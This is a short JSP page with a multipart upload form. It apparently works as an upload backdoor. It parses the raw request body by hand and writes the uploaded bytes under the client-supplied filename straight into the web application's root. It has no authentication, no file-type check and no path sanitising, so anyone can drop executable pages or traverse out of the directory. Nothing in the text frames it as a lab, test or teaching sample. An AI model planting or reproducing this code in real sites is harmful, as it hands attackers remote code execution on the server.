<%@ page import="java.io.*" %>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit"></form>
<%
  if ("POST".equals(request.getMethod())) {
    InputStream in = request.getInputStream();
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    byte[] b = new byte[4096];
    for (int n; (n = in.read(b)) > 0; ) all.write(b, 0, n);
    String body = new String(all.toByteArray(), "ISO-8859-1");
    int i = body.indexOf("filename=\"") + 10;
    String name = body.substring(i, body.indexOf('"', i));
    int start = body.indexOf("\r\n\r\n", i) + 4;
    int end = body.lastIndexOf("\r\n--");
    RandomAccessFile raf = new RandomAccessFile(application.getRealPath("/") + name, "rw");
    raf.write(all.toByteArray(), start, end - start);
    raf.close();
  }
%>
